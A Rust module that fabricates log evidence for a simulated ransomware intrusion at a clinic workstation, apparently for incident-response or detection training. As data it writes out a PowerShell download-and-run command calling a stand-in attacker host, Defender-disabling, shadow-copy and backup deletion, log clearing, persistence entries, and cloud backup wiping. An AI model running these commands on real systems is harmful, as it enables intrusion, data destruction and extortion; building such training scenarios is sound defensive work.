//! T2: a document starts PowerShell, protection goes off, shadow copies go, files are rewritten, the backup is emptied.

use serde_json::json;

use crate::background::cloud::storage_call;
use crate::background::windows::sysmon::{self, Program};
use crate::background::windows::{other, security};
use crate::clinic::people::ATTACKED;
use crate::clinic::{BUCKET, Clinic, fully_named};
use crate::evidence::{Evidence, Load};
use crate::mail::base64;
use crate::moment::Moment;

const HOST: &str = "AC-WS04";
const ADDRESS: &str = "10.20.10.14";
/// The attacker's server.
const SERVER: (&str, &str) = ("192.0.2.201", "cdn-status.invoice-sync.example");
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const DROPPED: &str = "C:\\ProgramData\\whu.exe";
const SCRIPT: &str = "$c = New-Object Net.WebClient; $c.DownloadFile('https://cdn-status.invoice-sync.example/u.bin', 'C:\\ProgramData\\whu.exe'); Start-Process 'C:\\ProgramData\\whu.exe'";

pub(crate) fn add(clinic: &Clinic, evidence: &mut Evidence) {
    let begin = Moment::utc(10, 22, (16, 3, 12));
    let shell = Program::new(
        HOST,
        ATTACKED,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
    );
    let word = Program::new(
        HOST,
        ATTACKED,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "\"WINWORD.EXE\" /n \"C:\\Users\\cdunning\\Downloads\\Overdue invoice 7731.docm\"",
    );
    start(evidence, begin, &word, &shell);
    let encoded: Vec<u8> = SCRIPT.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let command = format!("powershell.exe -NoP -W Hidden -Enc {}", base64(&encoded));
    let power = Program::new(HOST, ATTACKED, POWERSHELL, &command);
    start(evidence, begin.plus_seconds(9), &power, &word);
    evidence.windows.push(other::script(
        HOST,
        begin.plus_seconds(11),
        ATTACKED,
        (SCRIPT, ""),
    ));
    arrival(evidence, begin.plus_seconds(13), &power);
    let dropped = Program::new(HOST, ATTACKED, DROPPED, DROPPED);
    start(evidence, begin.plus_seconds(20), &dropped, &power);
    let run = "HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WinHostUpdater";
    evidence.windows.push(sysmon::registry(
        begin.plus_seconds(25),
        &dropped,
        run,
        DROPPED,
    ));
    disarm(evidence, begin.plus_seconds(50), &dropped);
    commands(evidence, &dropped);
    encrypt(evidence, Moment::utc(10, 22, (16, 33, 0)), &dropped);
    backup(clinic, evidence);
    isolate(evidence);
}

/// A program start is seen by Sysmon and by the Security log.
fn start(evidence: &mut Evidence, time: Moment, program: &Program, parent: &Program) {
    evidence
        .windows
        .push(sysmon::started(time, program, parent));
    let plain = [
        program.image.as_str(),
        program.command.as_str(),
        parent.image.as_str(),
    ];
    evidence
        .windows
        .push(security::process(HOST, time, &program.user, plain));
}

fn arrival(evidence: &mut Evidence, time: Moment, power: &Program) {
    evidence.lookup(time, ADDRESS, SERVER.1, Some(SERVER.0));
    evidence.https(time.plus_seconds(1), ADDRESS, SERVER, (1_204, 1_882_004));
    evidence.windows.push(sysmon::connected(
        time.plus_seconds(1),
        power,
        ADDRESS,
        (SERVER.0, SERVER.1, 443),
    ));
    evidence
        .windows
        .push(sysmon::created(time.plus_seconds(3), power, DROPPED));
    for beat in 1..=12 {
        let at = time.plus_seconds(beat * 300);
        evidence.tcp(at, ADDRESS, (SERVER.0, 443), Load("ssl", 1_010, 640, 0.8));
    }
}

/// Defender finds the program, fails to remove it, and is turned off.
fn disarm(evidence: &mut Evidence, time: Moment, dropped: &Program) {
    let threat = other::Threat {
        name: "Trojan:Win32/Aldrlock.A",
        path: DROPPED,
        user: ATTACKED,
    };
    evidence
        .windows
        .push(other::detection(HOST, time, 1116, &threat, true));
    evidence.windows.push(other::detection(
        HOST,
        time.plus_seconds(15),
        1117,
        &threat,
        false,
    ));
    let off = Program::new(
        HOST,
        ATTACKED,
        POWERSHELL,
        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
    );
    start(evidence, time.plus_seconds(70), &off, dropped);
    let script = ("Set-MpPreference -DisableRealtimeMonitoring $true", "");
    evidence
        .windows
        .push(other::script(HOST, time.plus_seconds(71), ATTACKED, script));
    let key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring";
    evidence.windows.push(sysmon::registry(
        time.plus_seconds(72),
        &off,
        key,
        "DWORD (0x00000001)",
    ));
    evidence.windows.push(other::setting(
        HOST,
        time.plus_seconds(72),
        &format!("{key} = 0x0"),
        &format!("{key} = 0x1"),
    ));
    evidence
        .windows
        .push(other::protection_off(HOST, time.plus_seconds(73)));
}

/// Program, its command line, and when it ran on 22 October.
#[rustfmt::skip]
const COMMANDS: [(&str, &str, (u32, u32, u32)); 9] = [
    ("whoami.exe", "whoami /all", (16, 10, 2)),
    ("net.exe", "net group \"Domain Admins\" /domain", (16, 10, 20)),
    ("nltest.exe", "nltest /dclist:alder-creek", (16, 10, 41)),
    ("sc.exe", "sc create WinHostUpdSvc binPath= C:\\ProgramData\\whu.exe start= auto", (16, 20, 1)),
    ("vssadmin.exe", "vssadmin delete shadows /all /quiet", (16, 31, 4)),
    ("wbadmin.exe", "wbadmin delete catalog -quiet", (16, 31, 20)),
    ("bcdedit.exe", "bcdedit /set {default} recoveryenabled no", (16, 31, 33)),
    ("wevtutil.exe", "wevtutil cl System", (16, 40, 5)),
    ("wevtutil.exe", "wevtutil cl Security", (16, 40, 9)),
];

/// The hand at the keyboard: looks round, installs a service, removes every way back.
fn commands(evidence: &mut Evidence, dropped: &Program) {
    let at = |clock| Moment::utc(10, 22, clock);
    let console = Program::new(HOST, ATTACKED, CMD, "cmd.exe");
    start(evidence, at((16, 9, 40)), &console, dropped);
    for (file, command, clock) in COMMANDS {
        let image = format!("C:\\Windows\\System32\\{file}");
        let program = Program::new(HOST, ATTACKED, &image, command);
        start(evidence, at(clock), &program, &console);
    }
    let service = ("WinHostUpdSvc", DROPPED);
    evidence
        .windows
        .push(other::service(HOST, at((16, 20, 3)), ATTACKED, service));
    evidence
        .windows
        .push(other::cleared(HOST, at((16, 40, 6)), (ATTACKED, "System")));
    evidence
        .windows
        .push(security::cleared(HOST, at((16, 40, 10)), ATTACKED));
}

/// Eighty files are rewritten under a new ending in three minutes, and their originals deleted.
fn encrypt(evidence: &mut Evidence, begin: Moment, dropped: &Program) {
    for number in 0..80 {
        let folder = ["Scans", "Letters", "Spirometry", "Intake forms"][number % 4];
        let original = format!("C:\\Users\\Public\\Documents\\{folder}\\file {number:03}.pdf");
        let at = begin.plus_micros(i64::try_from(number).expect("few files") * 2_300_000);
        evidence.windows.push(sysmon::created(
            at,
            dropped,
            &format!("{original}.aldrlock"),
        ));
        evidence
            .windows
            .push(sysmon::deleted(at.plus_micros(120_000), dropped, &original));
    }
    for folder in ["Scans", "Letters", "Spirometry", "Intake forms"] {
        let note = format!("C:\\Users\\Public\\Documents\\{folder}\\HOW_TO_RECOVER_FILES.txt");
        evidence
            .windows
            .push(sysmon::created(begin.plus_seconds(190), dropped, &note));
    }
}

/// The stolen key of the backup program is used from outside to empty the bucket.
fn backup(clinic: &Clinic, evidence: &mut Evidence) {
    let mut random = clinic.random("ransomware");
    let begin = Moment::utc(10, 22, (17, 2, 0));
    let mut call = |seconds: i64, name: &str, parameters| {
        let call = storage_call(
            &mut random,
            begin.plus_seconds(seconds),
            (name, SERVER.0),
            parameters,
        );
        evidence.storage.push(call);
    };
    call(0, "ListObjects", json!({"bucketName": BUCKET}));
    let suspended =
        json!({"bucketName": BUCKET, "VersioningConfiguration": {"Status": "Suspended"}});
    call(30, "PutBucketVersioning", suspended);
    for part in 0..8 {
        let key = format!("srv01/2026-10-2{}/part-{:03}", part / 4, part % 4);
        call(
            60 + part * 2,
            "DeleteObject",
            json!({"bucketName": BUCKET, "key": key}),
        );
    }
}

/// The workstation is taken off the network at 17:20 and comes back on Monday.
fn isolate(evidence: &mut Evidence) {
    let off = Moment::utc(10, 22, (17, 20, 0))..Moment::utc(10, 26, (0, 0, 0));
    let host = fully_named(HOST);
    evidence
        .windows
        .retain(|event| event.host != host || !off.contains(&event.time));
    evidence
        .flows
        .retain(|flow| flow.from != ADDRESS || !off.contains(&flow.time));
    for rows in [&mut evidence.dns, &mut evidence.http, &mut evidence.tls] {
        rows.retain(|(time, cells)| cells[1] != ADDRESS || !off.contains(time));
    }
}
